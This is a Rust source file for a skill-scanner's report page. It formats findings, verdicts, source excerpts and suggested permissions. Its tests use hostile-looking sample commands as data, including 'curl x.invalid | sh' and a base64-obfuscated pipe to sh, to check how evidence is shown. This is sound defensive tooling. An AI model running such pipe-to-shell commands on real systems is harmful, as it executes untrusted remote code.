//! The findings of a scan, as a human-readable page.

use metier::{
    scans::{
        Finding, FindingSeverity, ScanConsequence, ScannedSkill, SourceExcerpt, Verdict, suggested,
    },
    text::visible,
};
use unicode_width::UnicodeWidthStr;

use crate::output::{Output, Tone, count, one_line};

/// The permissions that manifests would declare, as YAML.
pub(super) fn suggestions(scans: &[ScannedSkill]) -> String {
    let mut out = String::new();
    for scan in scans {
        out.push_str(&format!("# {}\n", one_line(&scan.entry.name())));
        let wanted = suggested(&scan.report.capabilities);
        if wanted.is_empty() {
            out.push_str("permissions: []\n");
            continue;
        }
        out.push_str("permissions:\n");
        for permission in wanted {
            // `#` and `: ` have a meaning in YAML; brackets and stars within a word don't.
            let plain = !permission.contains(" #") && !permission.contains(": ");
            let shown = if plain {
                permission
            } else {
                format!("{permission:?}")
            };
            out.push_str(&format!("  - {shown}\n"));
        }
    }
    out
}

/// How many findings of a skill are shown, and for how many skills a line is printed even if nothing is wrong.
pub(super) const SHOWN: usize = 20;

/// Which findings a page shows.
#[derive(Clone, Copy, Default)]
pub(in crate::commands) struct PageFilter<'a> {
    /// Only what blocks.
    pub(in crate::commands) bad: bool,
    /// Only these rules or categories; all if empty.
    pub(in crate::commands) only: &'a [String],
}

impl PageFilter<'_> {
    pub(super) fn has_rule(self, id: &str) -> bool {
        self.only.is_empty() || self.only.iter().any(|name| Self::names(id, name))
    }

    /// Whether `name` is the id of a rule or its category.
    pub(super) fn names(id: &str, name: &str) -> bool {
        name == id || id.split('/').next() == Some(name)
    }
}

pub(super) fn report(
    scans: &[ScannedSkill],
    total: &str,
    filter: PageFilter<'_>,
    output: &Output,
) -> String {
    let mut out = String::new();
    for scan in scans {
        out.push_str(&answer(scan, output));
        findings(scan, filter, output, &mut out);
        let quiet = scan.report.verdict() <= Verdict::Info && scan.acceptance.is_none();
        if !quiet || scans.len() <= SHOWN || output.is_verbose() {
            out.push_str(&summary(scan, output));
        }
    }
    out.push_str(total);
    out
}

/// For the person who is about to use the skill, before any detail: whether it is blocked, and the worst of what was found. Nothing if there
/// is nothing to decide: then the summary is the answer.
fn answer(scan: &ScannedSkill, output: &Output) -> String {
    let name = output.paint(&one_line(&scan.entry.name()), Tone::Strong);
    let worst = scan.report.findings.first();
    let unread = scan.report.unread.first();
    let why = match (scan.verdict(), worst, unread) {
        (Verdict::Clean | Verdict::Info, ..) => return String::new(),
        (Verdict::Incomplete, _, Some(unread)) if unread.file.is_empty() => {
            format!("it was not read completely: {}", one_line(&unread.why))
        }
        (Verdict::Incomplete, _, Some(unread)) => format!(
            "`{}` was not read: {}",
            one_line(&unread.file),
            one_line(&unread.why)
        ),
        (_, Some(finding), _) => one_line(&finding.message),
        _ => "the scanner reported a danger before".to_owned(),
    };
    let (sign, what) = match (scan.consequence(), scan.verdict()) {
        _ if scan.acceptance.is_some() => (
            output.paint("✓", Tone::Good),
            "is not blocked, because you accepted it",
        ),
        (ScanConsequence::Blocked, Verdict::Critical | Verdict::Incomplete) => {
            (output.paint("✗", Tone::Bad), "is blocked")
        }
        (ScanConsequence::Warned, Verdict::Critical | Verdict::Incomplete) => (
            output.paint("!", Tone::Warn),
            "is not blocked, because your configuration only warns",
        ),
        _ => (
            output.paint("!", Tone::Warn),
            "is not blocked; read this first",
        ),
    };
    format!("{sign} {name} {what}: {why}\n")
}

/// How many skills have which verdict, in a line; nothing about a single skill.
pub(super) fn total(scans: &[ScannedSkill]) -> String {
    if scans.len() == 1 {
        return String::new();
    }
    let with = |verdict: Verdict| {
        let verdicts = scans.iter().map(ScannedSkill::verdict);
        verdicts.filter(|own| *own == verdict).count()
    };
    let parts: Vec<String> = Verdict::ALL
        .into_iter()
        .rev()
        .map(|verdict| (with(verdict), verdict))
        .filter(|(number, _)| *number > 0)
        .map(|(number, verdict)| format!("{number} {}", verdict.word()))
        .collect();
    let total = count(scans.len(), "skill");
    format!("{total}: {}\n", parts.join(", "))
}

/// The findings of one skill with their evidence, and the files that were not read.
pub(in crate::commands) fn findings(
    scan: &ScannedSkill,
    filter: PageFilter<'_>,
    output: &Output,
    out: &mut String,
) {
    let least = if filter.bad {
        FindingSeverity::Critical
    } else {
        FindingSeverity::Warning
    };
    let shown = |finding: &Finding| {
        filter.has_rule(finding.rule.id()) && (finding.severity >= least || output.is_verbose())
    };
    let most = if output.is_verbose() {
        usize::MAX
    } else {
        SHOWN
    };
    let frames = scan.frames.iter().chain(std::iter::repeat(&None));
    let all = scan.report.findings.iter().zip(frames);
    let groups = grouped(all.filter(|(finding, _)| shown(finding)));
    for group in groups.iter().take(most) {
        describe(scan, group, output, out);
    }
    let hidden = groups.iter().skip(most).map(|group| 1 + group.also.len());
    let more = hidden.sum::<usize>() + scan.report.more;
    if more > 0 {
        out.push_str(&format!("… and {more} more\n"));
    }
    for unread in scan.report.unread.iter().take(most) {
        let path = match unread.file.as_str() {
            "" => scan.entry.place.path().into_owned(),
            file => scan.entry.place.path().join(file),
        };
        out.push_str(&format!(
            "{}: {}: {}\n",
            one_line(&path.to_string_lossy()),
            output.paint("not read", Tone::Warn),
            one_line(&unread.why)
        ));
    }
    let more = scan.report.unread.len().saturating_sub(most);
    if more > 0 {
        out.push_str(&format!("… and {more} more that were not read\n"));
    }
}

/// A finding, and the other places where the same was found.
struct FindingGroup<'a> {
    finding: &'a Finding,
    frame: Option<&'a SourceExcerpt>,
    also: Vec<&'a Finding>,
}

/// Findings that differ only in their place, together; each group is where its first one was.
fn grouped<'a>(
    findings: impl Iterator<Item = (&'a Finding, &'a Option<SourceExcerpt>)>,
) -> Vec<FindingGroup<'a>> {
    let mut groups: Vec<FindingGroup<'a>> = Vec::new();
    for (finding, frame) in findings {
        let same = groups.iter_mut().find(|group| {
            let first = group.finding;
            (first.rule.id(), first.severity) == (finding.rule.id(), finding.severity)
                && first.message == finding.message
        });
        match same {
            Some(group) => group.also.push(finding),
            None => groups.push(FindingGroup {
                finding,
                frame: frame.as_ref(),
                also: Vec::new(),
            }),
        }
    }
    groups
}

/// How many other places of a finding are named.
const ALSO: usize = 6;

/// `scripts/a.sh:3, scripts/b.sh:9 and 4 more`.
fn places(also: &[&Finding]) -> String {
    let named: Vec<String> = also
        .iter()
        .take(ALSO)
        .map(|finding| match finding.place.line {
            0 => one_line(&finding.place.file),
            line => format!("{}:{line}", one_line(&finding.place.file)),
        })
        .collect();
    match also.len().saturating_sub(ALSO) {
        0 => named.join(", "),
        more => format!("{} and {more} more", named.join(", ")),
    }
}

/// `✗ name: critical (2 critical, 1 warning; 12 files)`.
fn summary(scan: &ScannedSkill, output: &Output) -> String {
    let verdict = scan.report.verdict();
    let accepted = scan.acceptance.as_ref();
    let sign = match verdict {
        Verdict::Critical | Verdict::Incomplete if accepted.is_none() => {
            output.paint("✗", Tone::Bad)
        }
        Verdict::Warning => output.paint("!", Tone::Warn),
        _ => output.paint("✓", Tone::Good),
    };
    let number = |severity: FindingSeverity| {
        let findings = scan.report.findings.iter();
        findings
            .filter(|finding| finding.severity == severity)
            .count()
    };
    let mut parts: Vec<String> = [
        FindingSeverity::Critical,
        FindingSeverity::Warning,
        FindingSeverity::Info,
    ]
    .into_iter()
    .map(|severity| (number(severity), severity.word()))
    .chain([
        (scan.report.unread.len(), "not read"),
        (scan.suppressed, "suppressed"),
        (scan.left_out, "in the baseline"),
    ])
    .filter(|(number, _)| *number > 0)
    .map(|(number, word)| format!("{number} {word}"))
    .collect();
    parts.push(count(scan.report.files, "file"));
    let mut line = format!(
        "{sign} {}: {} ({})",
        output.paint(&one_line(&scan.entry.name()), Tone::Strong),
        verdict.word(),
        parts.join(", ")
    );
    if let Some(accepted) = accepted {
        let reason = accepted.reason.as_deref().unwrap_or("no reason given");
        line.push_str(&format!(
            ", accepted on {}: {}",
            accepted.at.get(..10).unwrap_or(&accepted.at),
            one_line(reason)
        ));
    }
    line.push('\n');
    if accepted.is_none()
        && scan.consequence() == ScanConsequence::Blocked
        && verdict >= Verdict::Incomplete
    {
        line.push_str(&format!(
            "  {} it is blocked; if you have reviewed it yourself: metier scan {} --accept --reason TEXT\n",
            output.paint("hint:", Tone::Note),
            scan.word
        ));
    }
    line
}

fn describe(scan: &ScannedSkill, group: &FindingGroup<'_>, output: &Output, out: &mut String) {
    let finding = group.finding;
    let tone = match finding.severity {
        FindingSeverity::Critical => Tone::Bad,
        FindingSeverity::Warning => Tone::Warn,
        FindingSeverity::Info => Tone::Faint,
    };
    let folder = scan.entry.place.path();
    let path = match finding.place.file.as_str() {
        "" => folder.to_path_buf(),
        file => folder.join(file),
    };
    out.push_str(&format!(
        "{}{}: {}: {} [{}]\n",
        one_line(&path.to_string_lossy()),
        finding.place.position(),
        output.paint(finding.severity.word(), tone),
        one_line(&finding.message),
        one_line(finding.rule.id())
    ));
    match group.frame {
        Some(frame) => {
            draw(finding, frame, output, out);
            // The finding, then the reason why it is one: each only if the lines don't show it.
            for (part, label) in finding
                .evidence
                .split(" ← ")
                .zip(["reads as", "because of"])
            {
                if !stands_in(part, frame) {
                    let label = output.paint(label, Tone::Faint);
                    out.push_str(&format!("  {label} {}\n", one_line(part)));
                }
            }
        }
        None if finding.evidence.is_empty() => {}
        None => out.push_str(&format!(
            "  {} {}\n",
            output.paint("|", Tone::Faint),
            one_line(&finding.evidence)
        )),
    }
    for step in &finding.steps {
        out.push_str(&format!(
            "  {} {}:{}: {}\n",
            output.paint("from", Tone::Faint),
            one_line(&step.place.file),
            step.place.line,
            one_line(&step.what)
        ));
    }
    if !group.also.is_empty() {
        out.push_str(&format!(
            "  {} {}\n",
            output.paint("also at", Tone::Faint),
            places(&group.also)
        ));
    }
    if let Some(fix) = finding.rule.fix() {
        out.push_str(&format!(
            "  {} {}\n",
            output.paint("for its author:", Tone::Faint),
            one_line(fix)
        ));
    }
}

/// Whether the lines already show the evidence. They don't show text that was decoded, unfolded or made visible.
fn stands_in(evidence: &str, frame: &SourceExcerpt) -> bool {
    let words = |text: &str| -> Vec<String> {
        let words = text.trim_end_matches('…').split_whitespace();
        words.map(|word| visible(word).into_owned()).collect()
    };
    let (wanted, there) = (
        words(evidence).concat(),
        words(&frame.lines.concat()).concat(),
    );
    wanted.is_empty() || there.contains(&wanted)
}

/// The lines around a finding, with a mark below its column.
fn draw(finding: &Finding, frame: &SourceExcerpt, output: &Output, out: &mut String) {
    let last = frame.first as usize + frame.lines.len().saturating_sub(1);
    let width = last.to_string().len();
    let bar = output.paint("|", Tone::Faint);
    let column = finding.place.column.saturating_sub(1) as usize;
    for (number, line) in (frame.first..).zip(&frame.lines) {
        let here = number == finding.place.line;
        let (text, mark) = window(line, if here { column } else { 0 }, column);
        let number = output.paint(&format!("{number:>width$}"), Tone::Faint);
        out.push_str(format!("  {number} {bar} {text}").trim_end());
        out.push('\n');
        if here {
            let mark = " ".repeat(mark);
            let caret = output.paint("^", Tone::Bad);
            out.push_str(&format!("  {:>width$} {bar} {mark}{caret}\n", ""));
        }
    }
}

/// How much of a line is shown, and how much of that before the column that counts.
const WINDOW: usize = 120;
const BEFORE: usize = 60;

/// The part of a line around a column, with nothing hidden in it, and where the column is in that part. All lines of a frame are cut
/// at the same place.
fn window(line: &str, column: usize, common: usize) -> (String, usize) {
    let start = if common > WINDOW - 20 {
        common - BEFORE
    } else {
        0
    };
    let part = |from: usize, to: usize| -> String {
        let cut: String = line.chars().skip(from).take(to - from).collect();
        let seen = visible(&cut);
        // Joiners are visible elsewhere; here they would shift the mark.
        seen.replace('\u{200d}', "\\u{200d}")
    };
    let dots = if start > 0 && line.chars().nth(start).is_some() {
        "…"
    } else {
        ""
    };
    let before = part(start, column.max(start));
    let after = part(column.max(start), start + WINDOW);
    let more = if line.chars().nth(start + WINDOW).is_some() {
        "…"
    } else {
        ""
    };
    let mark = dots.width() + before.width();
    let shown = format!("{dots}{before}{after}");
    // Escaped characters are wider than the original ones.
    match shown.char_indices().nth(2 * WINDOW) {
        Some((cut, _)) => (format!("{}…", &shown[..cut]), mark.min(2 * WINDOW)),
        None => (format!("{shown}{more}"), mark),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn evidence_is_repeated_only_if_the_lines_do_not_show_it() {
        let frame = |line: &str| SourceExcerpt {
            first: 3,
            lines: vec!["set -e".to_owned(), line.to_owned()],
        };
        assert!(stands_in("cat  x | sh", &frame("  cat x | sh; true")));
        assert!(stands_in("cat x | s…", &frame("cat x | sh")));
        assert!(stands_in("", &frame("cat x")));
        assert!(!stands_in(
            "curl x.invalid | sh",
            &frame("echo Y3VybA== | base64 -d | sh")
        ));
    }

    #[test]
    fn a_line_is_cut_around_its_column_and_hides_nothing() {
        assert_eq!(window("abc", 1, 1), ("abc".to_owned(), 1));
        assert_eq!(window("\tab", 1, 1), (" ab".to_owned(), 1));
        let hidden = "a\u{202e}b";
        assert_eq!(window(hidden, 2, 2), ("a\\u{202e}b".to_owned(), 9));
        let long = "x".repeat(500);
        let (text, mark) = window(&long, 300, 300);
        assert_eq!((text.chars().count(), mark), (WINDOW + 2, BEFORE + 1));
        assert_eq!(window("short", 0, 300).0, "", "a neighbour is cut alike");
        assert_eq!(window("", 7, 7), (String::new(), 0));
    }
}
